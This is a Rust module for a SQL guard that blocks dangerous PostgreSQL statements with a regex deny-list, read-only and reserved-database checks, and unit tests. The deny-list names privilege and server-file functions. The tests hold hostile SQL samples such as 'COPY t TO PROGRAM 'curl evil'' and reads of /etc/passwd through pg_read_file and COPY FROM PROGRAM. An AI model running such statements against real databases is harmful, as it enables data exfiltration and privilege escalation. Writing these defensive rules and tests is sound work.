//! Unconditional deny-list and read-only scanning for raw SQL.
//!
//! These checks run before any capability lookup. A hit is always
//! [`GuardError::Forbidden`], whatever the tenant has been granted.

use regex::Regex;
use sqlparser::tokenizer::Token;
use std::sync::LazyLock;

use vibe_policy::ReservedDatabases;

use crate::analyzer::is_keyword;
use crate::error::GuardError;

struct DenyRule {
    label: &'static str,
    pattern: Regex,
}

static DENY_RULES: LazyLock<Vec<DenyRule>> = LazyLock::new(|| {
    [
        ("DROP DATABASE", r"\bDROP\s+DATABASE\b"),
        ("CREATE DATABASE", r"\bCREATE\s+DATABASE\b"),
        ("ALTER DATABASE", r"\bALTER\s+DATABASE\b"),
        ("role management", r"\b(CREATE|ALTER|DROP)\s+(ROLE|USER|GROUP)\b"),
        ("ALTER SYSTEM", r"\bALTER\s+SYSTEM\b"),
        ("GRANT", r"\bGRANT\b"),
        ("REVOKE", r"\bREVOKE\b"),
        ("COPY PROGRAM", r"\bCOPY\b[\s\S]*\bPROGRAM\b"),
        ("role switching", r"\b(SET|RESET)\s+(SESSION\s+AUTHORIZATION|ROLE)\b"),
        ("CREATE EXTENSION", r"\bCREATE\s+(OR\s+REPLACE\s+)?(EXTENSION|LANGUAGE)\b"),
        (
            "server-side file and process functions",
            r"\b(pg_read_file|pg_read_binary_file|pg_ls_dir|pg_stat_file|lo_import|lo_export|dblink\w*|pg_terminate_backend|pg_cancel_backend|pg_reload_conf|set_config)\s*\(",
        ),
    ]
    .into_iter()
    .map(|(label, pattern)| DenyRule {
        label,
        pattern: Regex::new(&format!("(?i){pattern}")).expect("valid deny pattern"),
    })
    .collect()
});

/// Keywords a `read_only` request may not contain.
const WRITE_KEYWORDS: &[&str] = &[
    "INSERT", "UPDATE", "DELETE", "MERGE", "TRUNCATE", "CREATE", "ALTER", "DROP", "COMMENT",
    "COPY", "CALL", "REINDEX", "VACUUM", "CLUSTER", "LOCK",
];

/// Scan comment-stripped SQL against the deny-list.
pub fn check_deny_list(normalized_sql: &str) -> Result<(), GuardError> {
    match DENY_RULES.iter().find(|rule| rule.pattern.is_match(normalized_sql)) {
        Some(rule) => Err(GuardError::forbidden(format!(
            "{} is never permitted",
            rule.label
        ))),
        None => Ok(()),
    }
}

/// Reject any write or DDL keyword in a request flagged read-only.
pub fn check_read_only(tokens: &[Token]) -> Result<(), GuardError> {
    for token in tokens {
        if let Some(keyword) = WRITE_KEYWORDS.iter().find(|k| is_keyword(token, k)) {
            return Err(GuardError::forbidden(format!(
                "{keyword} is not allowed in a read-only request"
            )));
        }
    }
    Ok(())
}

/// Reject any identifier naming a reserved database.
pub fn check_reserved_references(
    tokens: &[Token],
    reserved: &ReservedDatabases,
) -> Result<(), GuardError> {
    for token in tokens {
        if let Token::Word(word) = token {
            if reserved.is_reserved(&word.value) {
                return Err(GuardError::forbidden(format!(
                    "references to database '{}' are not permitted",
                    word.value
                )));
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyzer::SqlAnalyzer;

    fn tokens(sql: &str) -> Vec<Token> {
        SqlAnalyzer::new()
            .tokenize(sql)
            .unwrap()
            .into_iter()
            .filter(|t| !matches!(t, Token::Whitespace(_)))
            .collect()
    }

    #[test]
    fn deny_list_hits() {
        for sql in [
            "DROP DATABASE x",
            "drop   database\nx",
            "CREATE ROLE intruder LOGIN",
            "create user bob",
            "ALTER SYSTEM SET work_mem = '1GB'",
            "GRANT ALL ON t TO public",
            "REVOKE SELECT ON t FROM bob",
            "COPY t TO PROGRAM 'curl evil'",
            "COPY t FROM PROGRAM 'cat /etc/passwd'",
            "SET ROLE postgres",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT set_config('role', 'x', false)",
        ] {
            assert!(
                matches!(check_deny_list(sql), Err(GuardError::Forbidden { .. })),
                "{sql}"
            );
        }
    }

    #[test]
    fn deny_list_ignores_similar_names() {
        for sql in [
            "SELECT * FROM grants_log",
            "SELECT dropped_at FROM database_events",
            "SELECT * FROM users WHERE role = 'admin'",
        ] {
            assert!(check_deny_list(sql).is_ok(), "{sql}");
        }
    }

    #[test]
    fn comment_split_keywords_are_caught_after_normalization() {
        let analyzer = SqlAnalyzer::new();
        let tokens = analyzer.tokenize("DROP/**/DATABASE x").unwrap();
        let normalized: String = tokens
            .iter()
            .map(|t| match t {
                Token::Whitespace(_) => " ".to_string(),
                other => other.to_string(),
            })
            .collect();
        assert!(check_deny_list(&normalized).is_err());
    }

    #[test]
    fn read_only_rejects_writes_but_not_strings() {
        assert!(check_read_only(&tokens("SELECT * FROM t WHERE note = 'insert here'")).is_ok());
        let err = check_read_only(&tokens("INSERT INTO t VALUES (1)")).unwrap_err();
        assert_eq!(
            err.to_string(),
            "forbidden operation: INSERT is not allowed in a read-only request"
        );
        assert!(check_read_only(&tokens("create table t (id int)")).is_err());
    }

    #[test]
    fn reserved_names_are_blocked() {
        let reserved = ReservedDatabases::new(["vibe_control"]);
        assert!(check_reserved_references(&tokens("SELECT * FROM vibe_control.public.tenants"), &reserved).is_err());
        assert!(check_reserved_references(&tokens(r#"SELECT * FROM "VIBE_CONTROL".x.y"#), &reserved).is_err());
        assert!(check_reserved_references(&tokens("SELECT * FROM orders"), &reserved).is_ok());
    }
}
